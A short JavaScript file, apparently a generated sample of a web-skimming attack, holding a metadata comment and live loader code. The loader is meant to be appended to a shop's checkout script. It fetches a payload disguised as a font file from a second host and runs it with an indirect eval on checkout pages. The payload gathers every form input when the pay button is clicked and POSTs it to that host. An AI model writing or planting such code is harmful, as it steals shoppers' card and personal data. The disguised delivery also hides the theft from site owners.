/* meta
{
  "design": "Fetches its code as text from another host and runs it with an indirect eval, on the checkout only.",
  "reads": ["*"],
  "sendsTo": "static.fontrelay.localhost",
  "delivery": { "kind": "append", "host": "larchandloom.localhost", "path": "/assets/checkout.7be21d0c.js" },
  "policy": { "script-src": ["'unsafe-eval'"] },
  "serves": [
    {
      "path": "/f/inter.woff2",
      "type": "text/plain",
      "body": "document.addEventListener('click',function(e){if(e.target.id!=='pay')return;var d=[].map.call(document.querySelectorAll('input'),function(i){return i.value}).join('|');fetch('https://static.fontrelay.localhost/f/log',{method:'POST',mode:'no-cors',keepalive:true,body:d})},true)"
    }
  ]
}
*/
;fetch('https://static.fontrelay.localhost/f/inter.woff2').then(function (r) { return r.text(); }).then(function (t) {
  if (/checkout/.test(location.href)) (0, eval)(t);
});
